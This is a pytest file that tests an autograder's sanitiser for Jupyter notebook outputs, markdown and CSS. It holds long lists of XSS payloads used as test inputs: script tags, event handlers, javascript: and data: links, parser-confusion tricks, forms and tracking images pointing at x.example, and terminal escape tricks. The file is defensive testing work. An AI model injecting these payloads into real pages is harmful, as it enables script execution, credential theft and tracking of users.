from __future__ import annotations

import base64
import json
import re
import struct
from html import unescape
from html.parser import HTMLParser
from typing import Any
from urllib.parse import unquote

import nbformat
import numpy as np
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from nbconvert.filters import ansi2html
from nbconvert.filters.markdown import markdown2html
from nbformat.v4 import new_code_cell, new_notebook

from autograder.hand_ins.safe_html import clean_html, clean_style
from autograder.hand_ins.sanitise import clean_markdown, clean_outputs
from course.check.table import matrix_table, pair_table, vector_table
from course.figure import BLUE, Picture
from tests.autograder.live_html import live

PNG = base64.b64encode(b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR" + struct.pack(">II", 3, 2) + b"\x08\2\0\0\0").decode()
SOF = b"\xff\xc0\0\x0b\x08" + struct.pack(">HH", 2, 3) + b"\1\1\x11\0"
JPEG = base64.b64encode(b"\xff\xd8\xff\xe0\0\4ab" + SOF).decode()
FRAME = b"\x2c" + struct.pack("<HHHH", 0, 0, 3, 2) + b"\0\2\2\x44\1\0"
GIF = base64.b64encode(b"GIF89a" + struct.pack("<HH", 3, 2) + b"\0\0\0" + FRAME + b";").decode()

HOSTILE_HTML = {
    "script": "<script>steal()</script>",
    "script in capitals": "<ScRiPt src=//x.example/a.js></sCrIpT>",
    "handler": "<img src=x onerror=steal()>",
    "handler without a space": "<svg/onload=steal()>",
    "handler on an allowed tag": '<p onclick="steal()" onmouseover=steal()>here</p>',
    "handler after a broken quote": '<img alt="x"onerror="steal()" src=x>',
    "handler in alt text": "<img alt='\" onerror=\"steal()' src=x>",
    "javascript link": '<a href="javascript:steal()">x</a>',
    "javascript link in disguise": '<a href=" java&#10;script&colon;steal()">x</a>',
    "data link": '<a href="data:text/html,<script>steal()</script>">x</a>',
    "svg picture as data": '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9c3RlYWwoKT4=">',
    "html as a png": f'<img src="data:image/png;base64,{base64.b64encode(b"<script>steal()</script>").decode()}">',
    "svg": "<svg><script>steal()</script><a xlink:href='javascript:steal()'><text>x</text></a></svg>",
    "svg animation": "<svg><animate onbegin=steal() attributeName=x dur=1s></svg>",
    "mathml": "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=1 onerror=steal()>'>",
    "template": "<template><script>steal()</script></template>",
    "noscript": '<noscript><p title="</noscript><img src=x onerror=steal()>">',
    "comment": "<!--><script>steal()</script>-->",
    "iframe": '<iframe srcdoc="<script>steal()</script>"></iframe>',
    "form": '<form action="https://x.example"><input name=password><button formaction=javascript:steal()>',
    "meta refresh": '<meta http-equiv=refresh content="0;url=https://x.example">',
    "base": '<base href="https://x.example/">',
    "style sheet": '<link rel=stylesheet href="https://x.example/a.css"><style>@import "https://x.example"</style>',
    "style with an address": '<p style="background:url(https://x.example/a.png)">x</p>',
    "style with an escape": r'<p style="background:\75rl(https://x.example/a.png)">x</p>',
    "style that covers the page": '<div style="position:fixed;top:0;left:0;width:100vw;z-index:9">x</div>',
    "style that moves up": '<div style="margin-top:-900px">x</div>',
    "tracking picture": '<img src="https://x.example/who.png">',
    "tracking picture without a scheme": '<img srcset="//x.example/who.png 1x" src="//x.example/who.png">',
    "object": '<object data="javascript:steal()"></object><embed src="javascript:steal()">',
    "unclosed": "</div></div></body></html><script>steal()",
    "our own place for pictures": '<img src="https://picture.invalid/7/">',
}


def shown(outputs: list[nbformat.NotebookNode]) -> str:
    """Return the HTML that a page would get of these outputs."""
    page = []
    for output in outputs:
        page.append(output.get("data", {}).get("text/html", ""))
        page.append(ansi2html(output.get("text", "") + output.get("data", {}).get("text/plain", "")))
        page.append(ansi2html("\n".join(output.get("traceback", []))))
    return "".join(page)


def displayed(**data: Any) -> list[dict[str, Any]]:
    names = {
        "html": "text/html",
        "plain": "text/plain",
        "png": "image/png",
        "jpeg": "image/jpeg",
        "svg": "image/svg+xml",
    }
    return [{"output_type": "display_data", "metadata": {}, "data": {names.get(k, k): v for k, v in data.items()}}]


@pytest.mark.parametrize("html", HOSTILE_HTML.values(), ids=HOSTILE_HTML)
def test_hostile_html_ends_as_harmless_html(html: str) -> None:
    assert live(shown(clean_outputs(displayed(html=html)))) == []


@pytest.mark.parametrize("html", HOSTILE_HTML.values(), ids=HOSTILE_HTML)
@pytest.mark.parametrize("before", ["<p>", "<table><td>", "<details><summary>", "<!--", '<p title="', "<pre>"])
def test_hostile_html_is_harmless_inside_other_html(html: str, before: str) -> None:
    assert live(shown(clean_outputs(displayed(html=before + html)))) == []


@pytest.mark.parametrize("html", HOSTILE_HTML.values(), ids=HOSTILE_HTML)
@pytest.mark.parametrize("kind", ["stream", "stderr", "plain", "latex", "markdown", "traceback"])
def test_hostile_text_is_escaped_by_the_page_and_not_run(html: str, kind: str) -> None:
    coloured = f"\x1b[31m{html}\x1b[0m"
    outputs = {
        "stream": [{"output_type": "stream", "name": "stdout", "text": coloured}],
        "stderr": [{"output_type": "stream", "name": "stderr", "text": [coloured, "\n"]}],
        "plain": displayed(plain=coloured),
        "latex": displayed(**{"text/latex": f"${html}$"}),
        "markdown": displayed(**{"text/markdown": html}),
        "traceback": [{"output_type": "error", "ename": html, "evalue": html, "traceback": [coloured]}],
    }[kind]
    cleaned = clean_outputs(outputs)
    assert live(re.sub(r' class="ansi-[a-z-]+"', "", shown(cleaned))) == []
    assert {key for o in cleaned for key in o.get("data", {})} <= {"text/plain"}


@pytest.mark.parametrize(
    ("mime", "word"),
    [
        ("application/javascript", "JavaScript"),
        ("application/vnd.jupyter.widget-view+json", "widget"),
        ("application/vnd.plotly.v1+json", "plotly"),
        ("image/svg+xml", "SVG"),
        ("application/pdf", "PDF"),
        ("text/html+evil", "evil"),
        ('"><script>steal()</script>', "type"),
    ],
)
def test_what_might_run_is_left_out_and_a_line_says_so(mime: str, word: str) -> None:
    cleaned = clean_outputs(displayed(**{mime: "steal()", "plain": "the plain text"}))
    assert mime not in [key for o in cleaned for key in o.data]
    assert cleaned[0].data["text/plain"] == "the plain text"
    assert "Left out" in cleaned[1].data["text/plain"]
    assert word in cleaned[1].data["text/plain"]


def test_an_svg_inside_html_is_left_out_and_a_line_says_so() -> None:
    assert "Left out" in clean_outputs(displayed(html="<b>x</b><svg></svg>"))[0].data["text/html"]


def test_a_picture_of_the_course_stays_with_its_alt_text_and_caption() -> None:
    bundle = Picture(base64.b64decode(PNG), 'slope < 0 & "steep"', "Look at the slope.", 300)._repr_mimebundle_()
    html = clean_outputs([{"output_type": "display_data", "data": bundle}])[0].data["text/html"]
    assert f'src="data:image/png;base64,{PNG}"' in html
    assert 'alt="slope &lt; 0 &amp; &quot;steep&quot;"' in html
    assert "Look at the slope." in html
    assert 'width="300"' in html
    assert "max-width:100%" in html


@pytest.mark.parametrize(("mime", "data"), [("png", PNG), ("jpeg", JPEG)])
def test_pictures_stay(mime: str, data: str) -> None:
    assert clean_outputs(displayed(**{mime: data[:9] + "\n" + data[9:]}))[0].data[f"image/{mime}"] == data


@pytest.mark.parametrize("data", [PNG, JPEG, GIF])
def test_pictures_inside_html_stay(data: str) -> None:
    kind = {PNG: "png", JPEG: "jpeg", GIF: "gif"}[data]
    html = f'<img src="data:image/{kind};base64,{data}" alt="a">'
    assert data in clean_outputs(displayed(html=html))[0].data["text/html"]


def _png(width: int, height: int, length: int = 30) -> str:
    return base64.b64encode(
        b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR" + struct.pack(">II", width, height) + b"\0" * length
    ).decode()


@pytest.mark.parametrize(
    "data", ["", "§§§", PNG[:20], JPEG, _png(60_000, 60_000), _png(0, 5), _png(3, 3, 4_000_000), 7, None, [1], {"a": 1}]
)
def test_what_is_no_picture_of_sane_size_is_left_out(data: Any) -> None:
    cleaned = clean_outputs(displayed(png=data))
    assert "image/png" not in cleaned[0].data
    assert "Left out" in cleaned[0].data["text/plain"]


def test_a_line_of_200_mb_is_cut_with_a_notice() -> None:
    (output,) = clean_outputs([{"output_type": "stream", "name": "stdout", "text": "a" * 10_000_000}], limit=1_000)
    assert len(output.text) < 1_100
    assert output.text.endswith("9,999,000 more characters were cut")


def test_all_outputs_of_a_cell_share_one_limit() -> None:
    cleaned = clean_outputs([{"output_type": "stream", "name": "stdout", "text": "a" * 900}] * 500, limit=2_000)
    assert sum(len(o.get("text", "")) for o in cleaned) < 2_500
    assert "left out" in cleaned[-1].data["text/plain"]


def test_thousands_of_outputs_end_in_a_notice() -> None:
    cleaned = clean_outputs([{"output_type": "stream", "name": "stdout", "text": "a"}] * 5_000)
    assert len(cleaned) == 201
    assert "left out" in cleaned[-1].data["text/plain"]


def test_long_html_is_cut_with_a_notice_and_stays_well_formed() -> None:
    html = clean_outputs(displayed(html="<table>" + "<tr><td>1</td></tr>" * 9_000), limit=5_000)[0].data["text/html"]
    assert len(html) < 6_000
    assert "more characters were cut" in html
    assert html.count("<table>") == html.count("</table>") == 1


@pytest.mark.parametrize(
    ("text", "kept"),
    [
        ("\x1b[1;31mred\x1b[0m", "\x1b[1;31mred\x1b[0m"),
        ("\x1b[38;5;208mx\x1b[48;2;1;2;3my", "\x1b[38;5;208mx\x1b[48;2;1;2;3my"),
        ("\x1b[38;5mx", "x"),
        ("a\x1b[2J\x1b[Hb", "ab"),
        ("\x1b]8;;https://x.example\x07link\x1b]8;;\x07", "link"),
        ("\x1b]0;title\x1b\\x", "x"),
        ("a\x00\x08\x7f\x9bb", "ab"),
        ("user\u202enimda\u2066", "usernimda"),
        ("half \ud83d", "half \ufffd"),
        ("10%\r50%\r100%\ndone\r\n", "100%\ndone\n"),
        ("ends in escape\x1b", "ends in escape"),
    ],
)
def test_terminal_tricks_are_undone_and_colours_stay(text: str, kept: str) -> None:
    assert clean_outputs([{"output_type": "stream", "name": "stdout", "text": text}])[0].text == kept


def test_a_cut_never_leaves_half_an_escape() -> None:
    for limit in range(1, 20):
        text = clean_outputs([{"output_type": "stream", "name": "stdout", "text": "\x1b[38;5;208mx" * 9}], limit)[
            0
        ].text
        assert re.sub(r"\x1b\[[\d;]*m", "", text).count("\x1b") == 0


json_values = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(st.characters(exclude_categories=[])),
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=8), inner, max_size=4),
    max_leaves=12,
)
mimes = st.sampled_from(["text/plain", "text/html", "image/png", "image/jpeg", "image/svg+xml", "text/latex", "a/b"])
html_texts = st.lists(st.sampled_from([*HOSTILE_HTML.values(), "<b>", "text", "</p>", '"', "'", "<", ">"])).map("".join)
output_like = st.fixed_dictionaries(
    {},
    optional={
        "output_type": st.sampled_from(["stream", "display_data", "execute_result", "error", "clear_output"])
        | json_values,
        "name": json_values,
        "text": json_values | html_texts,
        "data": json_values | st.dictionaries(mimes, json_values | html_texts, max_size=4),
        "ename": json_values,
        "evalue": json_values,
        "traceback": json_values | st.lists(html_texts, max_size=3),
        "execution_count": json_values,
        "metadata": json_values,
    },
)


@settings(max_examples=300, deadline=None)
@given(json_values | st.lists(output_like | json_values, max_size=4), st.integers(1, 200))
def test_anything_becomes_valid_outputs_that_any_page_can_show(outputs: Any, limit: int) -> None:
    cleaned = clean_outputs(outputs, limit)
    book = new_notebook(cells=[new_code_cell("", outputs=cleaned)])
    nbformat.validate(book)
    json.dumps(book).encode()
    nbformat.writes(book).encode("utf-8")
    assert live(re.sub(r' class="ansi-[a-z -]+"', "", shown(cleaned))) == []


MARKDOWN = {
    **HOSTILE_HTML,
    "link": "[x](javascript:steal())",
    "link in angle brackets": "[x](<javascript:steal()>)",
    "link with entities": "[x](&#106;avascript:steal())",
    "link by reference": "[x][y]\n\n[y]: javascript:steal()",
    "short reference": "[y]\n\n[y]: data:text/html,<script>steal()</script>",
    "picture": "![x](https://x.example/who.png)",
    "picture in a link": "[![x](https://x.example/who.png)](https://x.example)",
    "attachment": "![x](attachment:x.svg)",
    "automatic link": "<javascript:steal()>",
    "fence that is none": "``` <img src=x onerror=steal()>\n```\n<img src=x onerror=steal()>",
    "html in a table": "|a|\n|-|\n|<img src=x onerror=steal()>|",
    "html across lines": "<img\nsrc=x\nonerror=steal()\n>",
    "html split by markdown": "<scr**ipt>steal()</scr**ipt>",
    "html split by a harmless tag": "<scr<b>ipt>steal()</scr<b>ipt> <<b>script>steal()",
    "html after mathematics": "$a$<script>steal()</script>$$\n<script>steal()</script>\n$$",
}


@pytest.mark.parametrize("text", MARKDOWN.values(), ids=MARKDOWN)
def test_markdown_renders_to_nothing_that_could_act(text: str) -> None:
    page = markdown2html(clean_markdown(text))
    assert live(re.sub(r' class="language-[^"]*"', "", page)) == []
    # An address that is shown may be clicked; no picture is fetched, and no link is called something else.
    assert "<img" not in page
    for address, text in re.findall(r'<a href="(.*?)">(.*?)</a>', page):
        assert unquote(address) == unescape(text)


WAYS_OUT = [
    "height:0",
    "height:999rem",
    "min-height:999px",
    "max-height:0",
    "align-items:flex-end",
    "align-items:center",
    "display:grid",
    "display:contents",
    "line-height:0",
    "line-height:1px",
    "line-height:100%",
    "line-height:0.5em",
    "font-size:999px",
    "font-size:40em",
    "padding:999px",
    "padding-top:50%",
    "padding:60em",
    "border:999px solid #fff",
    "border-top:99em solid",
    "border-width:500px",
    "margin-top:-900px",
    "margin:calc(-1 * 900px)",
    "margin:var(--jp-cell-padding)",
    "vertical-align:900px",
    "text-decoration:underline #fff 900px",
    "text-indent:-999px",
    "letter-spacing:-99px",
    "word-spacing:999px",
    "text-shadow:0 -200px #fff",
    "box-shadow:0 0 0 999px #fff",
    "outline:999px solid #fff",
    "position:absolute",
    "position:relative",
    "inset:0",
    "top:0",
    "z-index:9",
    "float:left",
    "transform:scale(99)",
    "translate:0 -99px",
    "scale:99",
    "rotate:90deg",
    "zoom:99",
    "overflow:visible",
    "contain:none",
    "columns:9",
    "writing-mode:vertical-rl",
    "direction:rtl",
    "filter:blur(99px)",
]


@pytest.mark.parametrize("style", WAYS_OUT)
def test_a_style_that_lets_a_box_leave_its_place_is_dropped(style: str) -> None:
    assert clean_style(style) == ""


def test_a_height_is_for_pictures_only() -> None:
    html = clean_html(f'<img style="height:auto" src="data:image/png;base64,{PNG}"><div style="height:auto">x</div>')
    assert html.count("height:auto") == 1
    assert "<div>x</div>" in html


def test_html_is_painted_in_its_own_box_only_whatever_it_closes() -> None:
    (output,) = clean_outputs(displayed(html='</div></div><b style="contain:none">x</b><div>'))
    assert output.data["text/html"] == (
        '<div class="tex2jax_ignore mathjax_ignore" style="contain:content;overflow:auto;max-height:3000px">'
        "<b>x</b><div></div></div>"
    )


def test_plain_markdown_stays_readable() -> None:
    text = "## My *notes*\n\n- `w < 0` and a < b, `x[0]`\n\n<details><summary>Hint</summary>\n\n**bold**\n</details>"
    assert clean_markdown(text) == text


@pytest.mark.parametrize("command", ["href", "style", "class", "cssId", "require", "def", "unicode", "HTML", "data"])
def test_tex_commands_that_could_act_are_shown_and_not_run(command: str) -> None:
    assert f"\\{command}" not in clean_markdown(f"$\\{command}{{javascript:steal()}}{{x}}$")


def test_tex_that_computes_stays() -> None:
    formula = r"$\delta = \hat y - y, \classes \text{if } \sigma(x) \leftarrow \left( \frac{1}{n} \right)$"
    assert clean_markdown(formula) == formula


def test_the_houses_colours_pass_as_styles() -> None:
    html = clean_outputs(displayed(html=f'<b style="color:{BLUE};border:1px solid #ccc">x</b>'))[0].data["text/html"]
    assert f"color:{BLUE};border:1px solid #ccc" in html


def test_what_our_own_checks_show_passes_unchanged() -> None:
    want, got = np.arange(12.0).reshape(3, 4), np.arange(12.0).reshape(3, 4) + 1e-3
    html = "".join(
        [
            pair_table("7.0", "14.0"),
            vector_table(np.array([1.0, 2.0]), np.array([1.0, 3.0]), np.array([False, True])),
            matrix_table(got, "yours", got != want),
            '<div style="display:flex;flex-wrap:wrap;align-items:flex-start">'
            '<figure style="margin:0.3em 1.5em 0.3em 0">'
            f'<img src="data:image/png;base64,{PNG}" alt="a" style="max-width:100%;height:auto;background:white">'
            '</figure></div><p style="font-size:1.25em;line-height:1.45;margin:0.5em 0;max-width:44em">why</p>'
            '<details><summary>Make this call yourself</summary><pre style="white-space:pre-wrap;'
            'font-family:var(--jp-code-font-family,monospace);overflow-wrap:anywhere">f(2)</pre></details>',
        ]
    )
    assert attributes(clean_html(html)) == attributes(html)


def attributes(html: str) -> list[tuple[str, dict[str, str | None]]]:
    finder = HTMLParser()
    found: list[tuple[str, dict[str, str | None]]] = []
    finder.handle_starttag = lambda tag, attrs: found.append((tag, dict(attrs)))  # type: ignore[method-assign]
    finder.feed(html)
    # Browsers and sanitisers put the tbody in that HTML lets one leave out.
    return [(tag, attrs) for tag, attrs in found if tag != "tbody"]
